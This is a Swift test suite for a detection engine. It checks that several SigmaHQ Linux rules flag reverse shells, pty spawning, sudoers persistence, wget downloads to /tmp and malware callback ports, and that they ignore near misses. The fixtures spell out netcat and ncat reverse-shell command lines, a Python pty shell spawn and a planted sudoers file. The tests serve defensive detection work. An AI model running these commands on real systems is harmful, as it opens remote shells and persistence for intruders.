import Foundation
import Testing
import MamoriDetection
import MamoriEvents

/// A few SigmaHQ rules, loaded unchanged, fire on the activity they describe and not on a near
/// miss (skipped when the SigmaHQ folder is absent; the compatibility test reports that).
@Suite struct SigmaHQSemanticsTests {
    private func harness(_ relative: String) -> Harness? {
        let path = SigmaCompatibilityTests.sigmaDirectory + "/rules/linux/" + relative
        guard let text = try? String(contentsOfFile: path, encoding: .utf8) else { return nil }
        let h = Harness(text, origin: .sigma)
        #expect(h.report.diagnostics.isEmpty, "\(h.report.diagnostics)")
        return h
    }

    @Test func netcatReverseShell() {
        guard let h = harness("process_creation/proc_creation_lnx_netcat_reverse_shell.yml") else { return }
        #expect(h.fires("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]))
        #expect(h.fires("/usr/bin/ncat", ["ncat", "-c", "bash", "10.0.0.1", "4444"]))
        #expect(!h.fires("/usr/bin/nc", ["nc", "-l", "-p", "4444"]))
        #expect(!h.fires("/usr/bin/socat", ["socat", "-e", "/bin/sh"]))
    }

    @Test func inodeListingUsesBothRegexes() {
        guard let h = harness("process_creation/proc_creation_lnx_susp_inod_listing.yml") else { return }
        #expect(h.fires("/usr/bin/ls", ["ls", "-lid", "/"]))
        #expect(!h.fires("/usr/bin/ls", ["ls", "-li", "/"]))      // no -d
        #expect(!h.fires("/usr/bin/ls", ["ls", "-lid", "/tmp"]))  // not the root directory
    }

    @Test func pythonPtySpawn() {
        guard let h = harness("process_creation/proc_creation_lnx_python_pty_spawn.yml") else { return }
        #expect(h.fires("/usr/bin/python3.11", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"]))
        #expect(!h.fires("/usr/bin/python3.11", ["python3", "-c", "import pty; print(1)"]))
    }

    @Test func sudoersDropAndWgetToTmp() {
        guard let sudoers = harness("file_event/file_event_lnx_persistence_sudoers_files.yml"),
              let wget = harness("file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml") else { return }
        let vim = Fixture.record(pid: 100, "/usr/bin/vim"), dpkg = Fixture.record(pid: 100, "/usr/bin/dpkg")
        #expect(!sudoers.hits(Fixture.file(.create, "/etc/sudoers.d/evil"), process: vim).isEmpty)
        #expect(sudoers.hits(Fixture.file(.create, "/etc/sudoers.d/README.dpkg-new"), process: dpkg).isEmpty)
        #expect(!sudoers.hits(Fixture.file(.create, "/etc/sudoers.d/README.dpkg-new"), process: vim).isEmpty)
        let wgetRecord = Fixture.record(pid: 100, "/usr/bin/wget")
        #expect(!wget.hits(Fixture.file(.create, "/tmp/x.sh"), process: wgetRecord).isEmpty)
        #expect(wget.hits(Fixture.file(.create, "/home/u/x.sh"), process: wgetRecord).isEmpty)
        #expect(wget.hits(Fixture.file(.create, "/tmp/x.sh"), process: vim).isEmpty)
    }

    @Test func callbackPortOutsidePrivateRanges() {
        guard let h = harness("network_connection/net_connection_lnx_susp_malware_callback_port.yml") else { return }
        #expect(!h.hits(Fixture.network(to: Fixture.ipv4("203.0.113.9"), port: 4444)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv4("10.1.1.1"), port: 4444)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv4("203.0.113.9"), port: 4445)).isEmpty)
        #expect(h.hits(Fixture.network(.accept, to: Fixture.ipv4("203.0.113.9"), port: 4444)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv6([0xfe80, 0, 0, 0, 0, 0, 0, 9]), port: 4444)).isEmpty)
    }
}
